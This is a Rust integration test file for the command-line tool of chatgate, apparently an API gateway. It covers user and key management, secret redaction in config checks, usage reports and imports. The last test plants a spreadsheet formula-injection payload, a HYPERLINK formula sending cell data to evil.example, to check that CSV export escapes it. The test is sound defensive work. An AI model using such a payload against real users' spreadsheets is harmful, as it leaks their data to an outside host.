//! The built binary, as an admin or cron runs it.

use assert_cmd::Command;
use chatgate_testkit::*;
use serde_json::Value;
use std::time::Duration;

struct Cli {
    db_url: String,
    _dir: Option<tempfile::TempDir>,
}

impl Cli {
    fn new() -> Cli {
        let dir = tempfile::tempdir().unwrap();
        Cli {
            db_url: fresh_database_url(dir.path()),
            _dir: Some(dir),
        }
    }

    fn on(db_url: &str) -> Cli {
        Cli {
            db_url: db_url.to_owned(),
            _dir: None,
        }
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = Command::cargo_bin("chatgate").unwrap();
        c.env_remove("CHATGATE_CONFIG")
            .env_remove("OPENAI_API_KEY")
            .current_dir(std::env::temp_dir())
            .arg("--database")
            .arg(&self.db_url)
            .args(args);
        c
    }

    fn ok(&self, args: &[&str]) -> String {
        self.ok_with_stderr(args).0
    }

    /// Runs a command that must succeed; returns (stdout, stderr).
    fn ok_with_stderr(&self, args: &[&str]) -> (String, String) {
        let out = self.cmd(args).output().unwrap();
        let stderr = String::from_utf8(out.stderr).unwrap();
        assert!(
            out.status.success(),
            "{args:?} failed ({}): {stderr}",
            out.status
        );
        (String::from_utf8(out.stdout).unwrap(), stderr)
    }

    /// Runs a command that must fail with `code`; returns stderr.
    fn fails(&self, args: &[&str], code: i32) -> String {
        let out = self.cmd(args).output().unwrap();
        assert_eq!(out.status.code(), Some(code), "{args:?}: {out:?}");
        String::from_utf8(out.stderr).unwrap()
    }

    fn json(&self, args: &[&str]) -> Value {
        serde_json::from_str(&self.ok(args)).unwrap()
    }
}

fn is_generated_key(k: &str) -> bool {
    k.len() == 51 && k.starts_with("sk-") && k[3..].bytes().all(|b| b.is_ascii_alphanumeric())
}

#[test]
fn user_add_prints_the_key_once_in_three_forms() {
    let cli = Cli::new();
    let out = cli.ok(&["user", "add", "alice"]);
    let key = out.lines().last().unwrap();
    assert!(is_generated_key(key), "{out}");
    let quiet = cli.ok(&["-q", "user", "add", "bob"]);
    assert!(is_generated_key(quiet.trim()), "{quiet:?}");
    assert_eq!(quiet.lines().count(), 1);
    let json = cli.json(&["user", "add", "carol", "--format", "json"]);
    assert_eq!(json["name"], "carol");
    assert!(is_generated_key(json["key"].as_str().unwrap()));
    let own = cli.json(&[
        "user",
        "add",
        "dave",
        "--token",
        "abcd-1234",
        "--format",
        "json",
    ]);
    assert_eq!(own["key"], "abcd-1234");

    // Only a hash and a hint are stored, never the key itself (the SQLite
    // file is read byte by byte; on PostgreSQL every text column is searched).
    let keys = [key, quiet.trim(), json["key"].as_str().unwrap()];
    if let Some(path) = cli.db_url.strip_prefix("sqlite://") {
        let mut stored = std::fs::read(path).unwrap();
        for ext in ["-wal", "-shm"] {
            stored.extend(std::fs::read(format!("{path}{ext}")).unwrap_or_default());
        }
        for k in keys {
            assert!(
                !stored.windows(k.len()).any(|w| w == k.as_bytes()),
                "key stored in clear"
            );
        }
    } else {
        use chatgate::db::schema::keys::dsl as k;
        use diesel::prelude::*;
        let pool = chatgate::db::open(&cli.db_url).unwrap();
        let rows: Vec<(String, String, String)> = k::keys
            .select((k::label, k::key_hash, k::key_hint))
            .load(&mut pool.get().unwrap())
            .unwrap();
        for k in keys {
            assert!(
                rows.iter().all(|r| !format!("{r:?}").contains(k)),
                "key stored in clear"
            );
        }
    }
    let list = cli.json(&["user", "list", "--format", "json"]);
    let alice = &list.as_array().unwrap()[0];
    assert_eq!(
        alice["key_hint"],
        format!("{}…{}", &key[..5], &key[key.len() - 4..])
    );
}

#[test]
fn user_add_refuses_bad_input_clearly() {
    let cli = Cli::new();
    cli.ok(&["user", "add", "alice"]);
    let err = cli.fails(&["user", "add", "alice"], 1);
    assert!(err.contains("already exists"), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
    let err = cli.fails(&["user", "add", "a b"], 1);
    assert!(err.contains("whitespace"), "{err}");
    let err = cli.fails(&["user", "add", "x", "--token", "nk-123"], 1);
    assert!(err.contains("nk-"), "{err}");
    cli.ok(&["user", "add", "y", "--token", "same-key"]);
    let err = cli.fails(&["user", "add", "z", "--token", "same-key"], 1);
    assert!(
        err.contains("already in use") && !err.contains("same-key"),
        "{err}"
    );
    cli.fails(&["user", "add", "x", "--token-limit", "lots"], 2);
    cli.fails(&["user", "frobnicate"], 2);
    let err = cli.fails(&["user", "show", "nobody"], 1);
    assert!(err.contains("no user named `nobody`"), "{err}");
}

#[test]
fn names_are_kept_literally() {
    let cli = Cli::new();
    for name in ["o'brien", "zoë-日本", "quote\"d"] {
        cli.ok(&["-q", "user", "add", name]);
        let shown = cli.json(&["user", "show", name, "--format", "json"]);
        assert_eq!(shown["name"], name);
    }
    let csv = cli.ok(&["user", "list", "--format", "csv"]);
    assert!(csv.contains("\"quote\"\"d\""), "{csv}");
    // Names are compared byte for byte on every backend (MySQL's default
    // collation would take `alice` and `Alice` for one name): two users,
    // and a key expiring after 2038 (beyond MySQL's TIMESTAMP) is kept.
    cli.ok(&["-q", "user", "add", "alice", "--expires", "2099-12-31"]);
    cli.ok(&["-q", "user", "add", "Alice"]);
    let err = cli.fails(&["user", "add", "alice"], 1);
    assert!(err.contains("alice"), "{err}");
    let alice = cli.json(&["user", "show", "alice", "--format", "json"]);
    assert_eq!(alice["expires_at"], "2099-12-31T23:59:59Z");
    assert_eq!(
        cli.json(&["user", "show", "Alice", "--format", "json"])["name"],
        "Alice"
    );
}

#[test]
fn list_show_edit_disable_enable_remove() {
    let cli = Cli::new();
    cli.ok(&[
        "-q",
        "user",
        "add",
        "alice",
        "--token-limit",
        "1000",
        "--request-limit",
        "50",
        "--limit-period",
        "month",
        "--expires",
        "2099-12-31",
        "--models",
        "gpt-4o*,o1-*",
        "--rpm",
        "10",
        "--note",
        "team lead",
    ]);
    cli.ok(&["-q", "user", "add", "bob"]);
    let alice = cli.json(&["user", "show", "alice", "--format", "json"]);
    assert_eq!(alice["status"], "active");
    assert_eq!(alice["token_limit"], 1000);
    assert_eq!(alice["request_limit"], 50);
    assert_eq!(alice["limit_period"], "month");
    assert_eq!(alice["expires_at"], "2099-12-31T23:59:59Z");
    assert_eq!(alice["models"], serde_json::json!(["gpt-4o*", "o1-*"]));
    assert_eq!(alice["rpm"], 10);
    assert_eq!(alice["note"], "team lead");
    assert_eq!(alice["tokens_used"], 0);
    assert_eq!(alice["last_used_at"], Value::Null);
    let fields: Vec<&str> = alice
        .as_object()
        .unwrap()
        .keys()
        .map(|k| k.as_str())
        .collect();
    for f in [
        "name",
        "status",
        "key_hint",
        "created_at",
        "expires_at",
        "last_used_at",
        "token_limit",
        "request_limit",
        "limit_period",
        "tokens_used",
        "requests_used",
        "models",
        "rpm",
        "note",
    ] {
        assert!(fields.contains(&f), "missing {f}");
    }

    cli.ok(&[
        "user",
        "edit",
        "alice",
        "--token-limit",
        "none",
        "--expires",
        "never",
        "--models",
        "none",
        "--note",
        "",
    ]);
    let alice = cli.json(&["user", "show", "alice", "--format", "json"]);
    assert_eq!(alice["token_limit"], Value::Null);
    assert_eq!(alice["request_limit"], 50, "an unnamed setting must stay");
    assert_eq!(alice["expires_at"], Value::Null);
    assert_eq!(alice["models"], Value::Null);
    assert_eq!(alice["note"], Value::Null);

    cli.ok(&["user", "disable", "bob"]);
    let names = |v: Value| -> Vec<String> {
        v.as_array()
            .unwrap()
            .iter()
            .map(|u| u["name"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(
        names(cli.json(&["user", "list", "--format", "json"])),
        ["alice"]
    );
    let all = cli.json(&["user", "list", "--all", "--format", "json"]);
    assert_eq!(names(all.clone()), ["alice", "bob"]);
    assert_eq!(all[1]["status"], "disabled");
    cli.ok(&["user", "enable", "bob"]);
    assert_eq!(
        names(cli.json(&["user", "list", "--format", "json"])),
        ["alice", "bob"]
    );

    cli.ok(&["user", "edit", "bob", "--expires", "2020-01-01"]);
    let all = cli.json(&["user", "list", "--all", "--format", "json"]);
    assert_eq!(all[1]["status"], "expired");

    let table = cli.ok(&["user", "list"]);
    assert!(table.contains("alice") && table.contains("NAME"), "{table}");
    let csv = cli.ok(&["user", "list", "--format", "csv"]);
    assert!(csv.starts_with("name,status,key_hint,created_at,"), "{csv}");

    // A top-up names an amount; a parallel limit is a setting like rpm.
    let err = cli.fails(&["user", "recharge", "bob"], 2);
    assert!(err.contains("--tokens"), "{err}");
    cli.ok(&["user", "edit", "bob", "--max-parallel", "2"]);
    let bob = cli.json(&["user", "show", "bob", "--format", "json"]);
    assert_eq!(bob["max_parallel"], 2);

    // A USD budget: set, topped up in dollars, shown, refused when bad.
    let err = cli.fails(&["user", "recharge", "bob", "--usd", "5"], 1);
    assert!(
        err.contains("no budget") && err.contains("--budget-usd"),
        "{err}"
    );
    cli.ok(&["user", "edit", "bob", "--budget-usd", "12.50"]);
    let bob = cli.json(&[
        "user", "recharge", "bob", "--usd", "0.25", "--format", "json",
    ]);
    assert_eq!(
        (bob["budget_usd"].clone(), bob["spent_usd"].clone()),
        (Value::from(12.75), Value::from(0.0))
    );
    let table = cli.ok(&["user", "list", "--all"]);
    assert!(
        table.contains("BUDGET") && table.contains("$12.75") && table.contains("SPENT"),
        "{table}"
    );
    let csv = cli.ok(&["user", "list", "--format", "csv"]);
    assert!(
        csv.lines()
            .next()
            .unwrap()
            .ends_with(",budget_usd,spent_usd,team"),
        "{csv}"
    );
    let err = cli.fails(&["user", "edit", "bob", "--budget-usd=-3"], 2);
    assert!(err.contains("USD"), "{err}");
    cli.ok(&["user", "edit", "bob", "--budget-usd", "none"]);
    assert_eq!(
        cli.json(&["user", "show", "bob", "--format", "json"])["budget_usd"],
        Value::Null
    );

    // No TTY here: removal needs --yes.
    let err = cli.fails(&["user", "remove", "bob"], 1);
    assert!(err.contains("--yes"), "{err}");
    cli.ok(&["user", "remove", "bob", "--yes"]);
    cli.fails(&["user", "show", "bob"], 1);
}

#[test]
fn config_check_redacts_secrets_and_names_bad_fields() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("chatgate.yaml");
    std::fs::write(
        &file,
        "listen: 127.0.0.1:9999\nadmin:\n  token: adm-secret\nupstreams:\n  - name: openai\n    kind: openai\n    api_keys: [sk-live-secret]\n    base_url: http://gateuser:url-password@127.0.0.1:9/v1?api_key=query-secret&x=1\n  - name: azure\n    kind: azure\n    endpoint: https://token-in-user@res.openai.azure.com?password=pw-secret\n    api_version: v1\n    api_keys: [az-secret]\nusers:\n  - name: alice\n    token: user-secret\n",
    )
    .unwrap();
    let cli = Cli::new();
    let out = cli.ok(&["-c", file.to_str().unwrap(), "config", "check"]);
    assert!(out.contains("127.0.0.1:9999"), "{out}");
    assert!(out.contains("x=1"), "{out}");
    for secret in [
        "adm-secret",
        "sk-live-secret",
        "user-secret",
        "url-password",
        "gateuser",
        "query-secret",
        "token-in-user",
        "pw-secret",
        "az-secret",
    ] {
        assert!(!out.contains(secret), "{secret} printed:\n{out}");
    }

    // Prices: how many, and a model served without one.
    let sample = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/data/model_prices_sample.json"
    );
    std::fs::write(
        &file,
        format!("prices_file: {sample}\nprices:\n  \"claude-*\": {{ input: 3, output: 15 }}\nupstreams:\n  - name: openai\n    kind: openai\n    api_keys: [k]\n    models: [gpt-4o, o1-*]\n"),
    )
    .unwrap();
    let (_, out) = cli.ok_with_stderr(&["-c", file.to_str().unwrap(), "config", "check"]);
    assert!(
        out.contains("prices: 11 models or patterns priced"),
        "{out}"
    );
    assert!(
        out.contains("`o1-*`, which no price covers") && !out.contains("`gpt-4o`, which"),
        "{out}"
    );
    std::fs::write(&file, "prices_file: /nonexistent/prices.json\n").unwrap();
    let err = cli.fails(&["-c", file.to_str().unwrap(), "config", "check"], 1);
    assert!(err.contains("prices_file"), "{err}");

    std::fs::write(&file, "workers: many\n").unwrap();
    let err = cli.fails(&["-c", file.to_str().unwrap(), "config", "check"], 1);
    assert!(
        err.contains("chatgate.yaml") && err.contains("workers"),
        "{err}"
    );
    std::fs::write(&file, "upstreams:\n  - name: x\n    kind: openai\n").unwrap();
    let err = cli.fails(&["-c", file.to_str().unwrap(), "config", "check"], 1);
    assert!(err.contains("upstreams[0].api_keys"), "{err}");
    for (yaml, field) in [
        (
            "upstreams:\n  - name: x\n    kind: bedrock\n    api_keys: [k]\n",
            "unknown upstream kind `bedrock`",
        ),
        (
            "upstreams:\n  - name: x\n    kind: azure\n    api_keys: [k]\n    api_version: v1\n",
            "upstreams[0].endpoint",
        ),
        (
            "upstreams:\n  - name: x\n    kind: openai\n    api_keys: [k]\n    proxy: ftp://p:1\n",
            "upstreams[0].proxy",
        ),
        (
            "usage:\n  batch_window: 2s\n",
            "usage.batch_window must be at most 1s",
        ),
    ] {
        std::fs::write(&file, yaml).unwrap();
        let err = cli.fails(&["-c", file.to_str().unwrap(), "config", "check"], 1);
        assert!(err.contains(field), "{err}");
    }
    let err = cli.fails(&["-c", "/nonexistent/chatgate.yaml", "config", "check"], 1);
    assert!(err.contains("/nonexistent/chatgate.yaml"), "{err}");
    let err = Cli::on("mysql://u:pw@h/db").fails(&["user", "list"], 1);
    assert!(err.contains("database") && !err.contains(":pw@"), "{err}");
}

#[test]
fn sign_in_config_is_checked_and_its_secret_hidden() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("chatgate.yaml");
    let oidc = |extra: &str| {
        format!(
            "web:\n  oidc:\n    issuer: https://id.example.com/realms/acme\n    client_id: chatgate\n    client_secret: oidc-secret-value\n{extra}"
        )
    };
    let cli = Cli::new();
    std::fs::write(
        &file,
        oidc("    defaults:\n      budget_usd: 20\n      limit_period: month\n"),
    )
    .unwrap();
    let (out, err) = cli.ok_with_stderr(&["-c", file.to_str().unwrap(), "config", "check"]);
    assert!(
        !out.contains("oidc-secret-value") && out.contains("client_id: chatgate"),
        "{out}"
    );
    assert!(err.contains("web.public_url is unset"), "{err}");
    std::fs::write(
        &file,
        format!("{}  public_url: https://gate.example.com/\n", oidc("")),
    )
    .unwrap();
    let (_, err) = cli.ok_with_stderr(&["-c", file.to_str().unwrap(), "config", "check"]);
    assert!(
        err.contains("https://gate.example.com/auth/callback"),
        "{err}"
    );
    for (yaml, says) in [
        (
            oidc("").replace("https://id.example.com", "http://id.example.com"),
            "web.oidc.issuer",
        ),
        (oidc("    scopes: [email]\n"), "web.oidc.scopes"),
        (
            oidc("    defaults:\n      rpm: lots\n"),
            "web.oidc.defaults",
        ),
        (
            oidc("    defaults:\n      disabled: true\n"),
            "web.oidc.defaults",
        ),
        (oidc("    defaults:\n      team: data\n"), "team_claim"),
    ] {
        std::fs::write(&file, yaml).unwrap();
        let err = cli.fails(&["-c", file.to_str().unwrap(), "config", "check"], 1);
        assert!(
            err.contains(says) && !err.contains("oidc-secret-value"),
            "{says}: {err}"
        );
    }
    // A loopback issuer may be plain http (a provider on the same host).
    std::fs::write(
        &file,
        oidc("").replace("https://id.example.com", "http://127.0.0.1:8180"),
    )
    .unwrap();
    cli.ok(&["-c", file.to_str().unwrap(), "config", "check"]);
}

#[test]
fn db_migrate_on_a_fresh_database() {
    let cli = Cli::new();
    let out = cli.cmd(&["db", "migrate"]).output().unwrap();
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("applied"));
    let out = cli.cmd(&["db", "migrate"]).output().unwrap();
    assert!(String::from_utf8_lossy(&out.stderr).contains("up to date"));
    let out = cli.cmd(&["config", "check"]).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    let backend = if on_postgres() {
        "postgres"
    } else if on_mysql() {
        "mysql"
    } else {
        "sqlite"
    };
    assert!(
        err.contains(&format!("database: {backend}")) && err.contains("migrations up to date"),
        "{err}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cli_changes_reach_a_running_server() {
    let mock = start_mock();
    let (config, dir) = test_config(vec![openai_upstream("mock", &mock.url, &["*"])]);
    let app = spawn_app(config, dir);
    let cli = Cli::on(&app.db_url);
    let url = format!("{}/models", app.base);
    let status_with = |key: String| {
        let url = url.clone();
        async move {
            let r = http().get(&url).bearer_auth(&key).send().await.unwrap();
            let status = r.status().as_u16();
            let body: Value = r.json().await.unwrap_or_default();
            (
                status,
                body["error"]["code"].as_str().unwrap_or("").to_owned(),
            )
        }
    };
    let wait_for = |key: String, want: (u16, &'static str)| {
        let status_with = &status_with;
        async move {
            eventually(Duration::from_secs(10), || {
                let key = key.clone();
                async move {
                    let (s, c) = status_with(key).await;
                    s == want.0 && c == want.1
                }
            })
            .await
        }
    };

    let key = cli.ok(&["-q", "user", "add", "erin"]).trim().to_owned();
    assert!(
        wait_for(key.clone(), (200, "")).await,
        "added user never worked"
    );
    cli.ok(&["user", "disable", "erin"]);
    assert!(wait_for(key.clone(), (401, "user_disabled")).await);
    cli.ok(&["user", "enable", "erin"]);
    assert!(wait_for(key.clone(), (200, "")).await);
    let new_key = cli.ok(&["-q", "token", "rotate", "erin"]).trim().to_owned();
    assert!(is_generated_key(&new_key));
    assert!(
        wait_for(key.clone(), (401, "invalid_api_key")).await,
        "old key still works"
    );
    assert_eq!(status_with(new_key.clone()).await, (200, String::new()));
    cli.ok(&["user", "remove", "erin", "--yes"]);
    assert!(
        wait_for(new_key, (401, "invalid_api_key")).await,
        "removed user still works"
    );
}

#[test]
fn serve_without_an_upstream_says_how_to_get_one() {
    let cli = Cli::new();
    let err = cli.fails(&["serve", "--listen", "127.0.0.1:0"], 1);
    assert!(
        err.contains("OPENAI_API_KEY") && err.contains("--demo"),
        "{err}"
    );
    assert_eq!(err.lines().count(), 1, "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn config_users_are_seeded_once() {
    let (mut config, dir) = test_config(vec![]);
    config.use_demo_upstream();
    config.users = vec![chatgate::config::UserSeed {
        name: "seeded".into(),
        token: "seed-key-1".into(),
    }];
    let mut conn = chatgate::db::open(&config.database.url)
        .unwrap()
        .get()
        .unwrap();
    let added = chatgate::users::seed(&mut conn, &config.users).unwrap();
    assert_eq!(added, ["seeded"]);
    assert!(chatgate::users::seed(&mut conn, &config.users)
        .unwrap()
        .is_empty());
    drop(conn);
    let app = spawn_app(config, dir);
    let r = http()
        .get(format!("{}/models", app.base))
        .bearer_auth("seed-key-1")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
}

fn record(
    at: &str,
    user: &str,
    model: &str,
    status: u16,
    p: i64,
    c: i64,
) -> chatgate::usage::UsageRecord {
    chatgate::usage::UsageRecord {
        at: chrono::NaiveDateTime::parse_from_str(at, "%Y-%m-%d %H:%M:%S").unwrap(),
        user: user.into(),
        method: "POST",
        endpoint: "/chat/completions".into(),
        model: Some(model.into()),
        upstream: Some("openai".into()),
        status,
        prompt_tokens: Some(p),
        completion_tokens: Some(c),
        total_tokens: Some(p + c),
        latency_ms: 5,
        ..Default::default()
    }
}

#[test]
fn usage_report_groups_filters_and_formats() {
    let cli = Cli::new();
    cli.ok(&["db", "migrate"]);
    {
        let pool = chatgate::db::open(&cli.db_url).unwrap();
        let mut conn = pool.get().unwrap();
        chatgate::usage::writer::write_batch(
            &mut conn,
            &[
                record("2026-10-31 23:59:59", "alice", "gpt-4o", 200, 1000, 1000),
                record("2026-11-01 00:00:00", "alice", "gpt-4o", 200, 100, 50),
                record("2026-11-15 10:00:00", "alice", "gpt-4o-mini", 429, 0, 0),
                record("2026-11-30 23:59:59", "bob", "gpt-4o", 200, 10, 20),
                record("2026-12-01 00:00:00", "bob", "gpt-4o", 200, 1000, 1000),
            ],
        )
        .unwrap();
    }
    let nov = ["--since", "2026-11-01", "--until", "2026-11-30"];
    fn args<'a>(nov: &[&'a str], extra: &[&'a str]) -> Vec<&'a str> {
        let mut a = vec!["usage", "report"];
        a.extend_from_slice(nov);
        a.extend_from_slice(extra);
        a
    }
    let json = cli.json(&args(&nov, &["--format", "json"]));
    assert_eq!(
        json,
        serde_json::json!([
            {"user": "alice", "requests": 2, "errors": 1, "prompt_tokens": 100, "completion_tokens": 50,
             "total_tokens": 150, "cached_tokens": 0, "estimated_requests": 0, "cost_usd": null},
            {"user": "bob", "requests": 1, "errors": 0, "prompt_tokens": 10, "completion_tokens": 20,
             "total_tokens": 30, "cached_tokens": 0, "estimated_requests": 0, "cost_usd": null}
        ])
    );
    let by_model = cli.json(&args(
        &nov,
        &["--by", "model,day", "--format", "json", "--user", "alice"],
    ));
    assert_eq!(by_model.as_array().unwrap().len(), 2);
    assert_eq!(by_model[0]["model"], "gpt-4o");
    assert_eq!(by_model[0]["day"], "2026-11-01");
    assert!(by_model[0].get("user").is_none());

    let csv = cli.ok(&args(&nov, &["--by", "month", "--format", "csv"]));
    assert_eq!(
        csv,
        "month,requests,errors,prompt_tokens,completion_tokens,total_tokens,cached_tokens,estimated_requests,cost_usd\n\
         2026-11,3,1,110,70,180,0,0,\n"
    );
    let table = cli.ok(&args(&nov, &[]));
    let total = table
        .lines()
        .find(|l| l.starts_with("| TOTAL "))
        .expect("a totals row");
    assert!(total.contains("180"), "{table}");

    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("report.csv");
    cli.ok(&args(
        &nov,
        &["--format", "csv", "--output", out.to_str().unwrap()],
    ));
    assert!(std::fs::read_to_string(&out)
        .unwrap()
        .starts_with("user,requests"));

    // Costs are the ones stored with the records: prices configured now
    // do not reprice what was written without them.
    let cfg = dir.path().join("chatgate.yaml");
    std::fs::write(&cfg, "prices:\n  gpt-4o: { input: 2.5, output: 10 }\n").unwrap();
    let mut priced = vec!["-c", cfg.to_str().unwrap()];
    priced.extend(args(&nov, &["--format", "json"]));
    let json = cli.json(&priced);
    assert_eq!(json[1]["cost_usd"], serde_json::Value::Null);

    // A range without records (not `--period yesterday`: on 2026-12-01
    // that is the day of one of the records above).
    let empty = cli.json(&[
        "usage",
        "report",
        "--since",
        "2025-01-01",
        "--until",
        "2025-01-31",
        "--format",
        "json",
    ]);
    assert_eq!(empty, serde_json::json!([]));
    let err = cli.fails(&["usage", "report", "--since", "2026-02-30"], 1);
    assert!(err.contains("--since"), "{err}");
    cli.fails(&["usage", "report", "--by", "planet"], 2);
    // Dates outside the calendar are a clear error, never a panic.
    for (args, what) in [
        (&["--period", "200000000d"][..], "--period"),
        (&["--until", "+262142-12-31"][..], "--until"),
    ] {
        let mut all = vec!["usage", "report"];
        all.extend_from_slice(args);
        let err = cli.fails(&all, 1);
        assert!(err.contains(what) && err.contains("calendar"), "{err}");
        assert_eq!(err.lines().count(), 1, "{err}");
    }

    // Pruning keeps the daily totals: whole-day reports are unchanged, while
    // a range not on day boundaries (read from the records) no longer sees them.
    let err = cli.fails(&["usage", "prune", "--before", "2026-11-15"], 1);
    assert!(err.contains("--yes"), "{err}");
    let exact = [
        "usage",
        "report",
        "--since",
        "2026-10-01T00:00:01Z",
        "--until",
        "2026-12-31T00:00:00Z",
        "--by",
        "month",
        "--format",
        "json",
    ];
    let months = |v: Value| -> Vec<(String, i64)> {
        v.as_array()
            .unwrap()
            .iter()
            .map(|r| {
                (
                    r["month"].as_str().unwrap().to_owned(),
                    r["requests"].as_i64().unwrap(),
                )
            })
            .collect()
    };
    let m = |s: &str, n: i64| (s.to_owned(), n);
    assert_eq!(
        months(cli.json(&exact)),
        [m("2026-10", 1), m("2026-11", 3), m("2026-12", 1)]
    );
    let whole_days = cli.json(&args(&nov, &["--format", "json"]));
    let out = cli
        .cmd(&["usage", "prune", "--before", "2026-11-15", "--yes"])
        .output()
        .unwrap();
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("deleted 2 usage records"));
    assert_eq!(cli.json(&args(&nov, &["--format", "json"])), whole_days);
    assert_eq!(months(cli.json(&exact)), [m("2026-11", 2), m("2026-12", 1)]);
}

#[test]
fn users_show_what_they_used_this_period() {
    let cli = Cli::new();
    cli.ok(&["-q", "user", "add", "alice", "--limit-period", "day"]);
    let now = chrono::Utc::now()
        .naive_utc()
        .format("%Y-%m-%d %H:%M:%S")
        .to_string();
    let mut refused = record(&now, "alice", "o1", 403, 0, 0);
    refused.upstream = None;
    {
        let pool = chatgate::db::open(&cli.db_url).unwrap();
        let mut conn = pool.get().unwrap();
        chatgate::usage::writer::write_batch(
            &mut conn,
            &[
                record(&now, "alice", "gpt-4o", 200, 100, 50),
                record(&now, "alice", "gpt-4o", 200, 10, 5),
                record("2020-01-01 10:00:00", "alice", "gpt-4o", 200, 1000, 1000),
                refused,
            ],
        )
        .unwrap();
    }
    let alice = cli.json(&["user", "show", "alice", "--format", "json"]);
    // Today only (the period is a day), and not the request the gateway refused.
    assert_eq!(
        (
            alice["requests_used"].as_i64(),
            alice["tokens_used"].as_i64()
        ),
        (Some(2), Some(165))
    );
    cli.ok(&["user", "edit", "alice", "--limit-period", "total"]);
    let alice = cli.json(&["user", "show", "alice", "--format", "json"]);
    assert_eq!(
        (
            alice["requests_used"].as_i64(),
            alice["tokens_used"].as_i64()
        ),
        (Some(3), Some(2165))
    );
    assert!(alice["last_used_at"].is_string());
}

/// Another instance (or a late batch) with an older use leaves the later
/// one in place.
#[test]
fn last_used_at_never_moves_back() {
    let cli = Cli::new();
    cli.ok(&["-q", "user", "add", "alice"]);
    let pool = chatgate::db::open(&cli.db_url).unwrap();
    for at in ["2026-11-29 10:00:00", "2026-11-28 09:00:00"] {
        let batch = [record(at, "alice", "gpt-4o", 200, 1, 1)];
        chatgate::usage::writer::write_batch(&mut pool.get().unwrap(), &batch).unwrap();
    }
    let alice = cli.json(&["user", "show", "alice", "--format", "json"]);
    assert_eq!(alice["last_used_at"], "2026-11-29T10:00:00Z");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn import_from_an_old_gateway_then_the_keys_work() {
    use diesel::connection::{Connection, SimpleConnection};
    let mock = start_mock();
    let (config, dir) = test_config(vec![openai_upstream("mock", &mock.url, &["*"])]);
    let old_db = dir.path().join("old.db");
    let csv_plain = dir.path().join("plain.csv");
    let csv_header = dir.path().join("header.csv");
    let app = spawn_app(config, dir);
    let cli = Cli::on(&app.db_url);
    cli.ok(&["-q", "user", "add", "taken"]);
    {
        let mut old = diesel::SqliteConnection::establish(old_db.to_str().unwrap()).unwrap();
        old.batch_execute(
            "CREATE TABLE users (id INTEGER PRIMARY KEY, username TEXT, token TEXT, created TEXT);
             INSERT INTO users (username, token) VALUES
               ('ann', 'old-key-ann-0001'), ('taken', 'old-key-taken-01'), ('bad name', 'x'),
               ('ben', 'nk-123456');",
        )
        .unwrap();
    }
    let out = cli.ok(&["user", "import", old_db.to_str().unwrap()]);
    assert!(out.contains("imported ann"), "{out}");
    assert!(out.contains("skipped taken: exists"), "{out}");
    assert!(out.contains("skipped bad name: bad name"), "{out}");
    assert!(out.contains("skipped ben: bad key"), "{out}");
    assert!(!out.contains("old-key"), "a key was printed: {out}");

    std::fs::write(&csv_plain, "cid,old-key-cid-0001\ndee,old-key-dee-0001\n").unwrap();
    std::fs::write(
        &csv_header,
        "name,token\neve,old-key-eve-0001\nann,another-key-001\n",
    )
    .unwrap();
    let out = cli.ok(&["user", "import", csv_plain.to_str().unwrap()]);
    assert!(
        out.contains("imported cid") && out.contains("imported dee"),
        "{out}"
    );
    let out = cli.ok(&[
        "user",
        "import",
        csv_header.to_str().unwrap(),
        "--format",
        "csv",
    ]);
    assert!(
        out.contains("imported eve") && out.contains("skipped ann: exists"),
        "{out}"
    );
    assert!(
        !out.contains("imported name"),
        "the header row was imported: {out}"
    );
    let err = cli.fails(
        &[
            "user",
            "import",
            csv_plain.to_str().unwrap(),
            "--format",
            "sqlite",
        ],
        1,
    );
    assert!(err.contains("users"), "{err}");

    // The imported keys work against the running server.
    for key in ["old-key-ann-0001", "old-key-dee-0001", "old-key-eve-0001"] {
        let works = eventually(Duration::from_secs(10), || async {
            key_status(&app, key).await.0 == 200
        })
        .await;
        assert!(works, "{key} does not work");
    }
}

#[test]
fn the_example_config_is_valid() {
    let example = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("packaging/chatgate.yaml");
    let out = Cli::new().ok(&["-c", example.to_str().unwrap(), "config", "check"]);
    assert!(
        out.contains("upstreams:") && !out.contains("sk-live-1"),
        "{out}"
    );
}

/// A spreadsheet never runs what a client put in a model name: cells
/// beginning like a formula are kept as text; `config check` shows no
/// secret of a URL that fails to parse and warns about a short admin token.
#[test]
fn csv_formulas_stay_text_and_config_check_keeps_secrets() {
    let cli = Cli::new();
    cli.ok(&["db", "migrate"]);
    let formula = r#"=HYPERLINK("https://evil.example/?"&A1,"gpt-4o")"#;
    {
        let pool = chatgate::db::open(&cli.db_url).unwrap();
        chatgate::usage::writer::write_batch(
            &mut pool.get().unwrap(),
            &[
                record("2026-11-02 10:00:00", "@alice", formula, 200, 5, 5),
                record("2026-11-02 10:00:00", "bob", "gpt-4o", 200, 5, 5),
            ],
        )
        .unwrap();
    }
    let csv = cli.ok(&[
        "usage",
        "report",
        "--since",
        "2026-11-01",
        "--until",
        "2026-11-30",
        "--by",
        "user,model",
        "--format",
        "csv",
    ]);
    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    let cells: Vec<Vec<String>> = rows
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    assert_eq!(
        cells[0][..2],
        ["'@alice".to_string(), format!("'{formula}")]
    );
    assert_eq!(cells[1][..2], ["bob", "gpt-4o"]);

    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("chatgate.yaml");
    std::fs::write(
        &file,
        "upstreams:\n  - name: gw\n    kind: openai\n    base_url: http://gw:S3cretPw@127.0.0.1:99999/v1\n    api_keys: [k]\n",
    )
    .unwrap();
    let err = cli.fails(&["-c", file.to_str().unwrap(), "config", "check"], 1);
    assert!(
        err.contains("127.0.0.1:99999") && !err.contains("S3cretPw"),
        "{err}"
    );
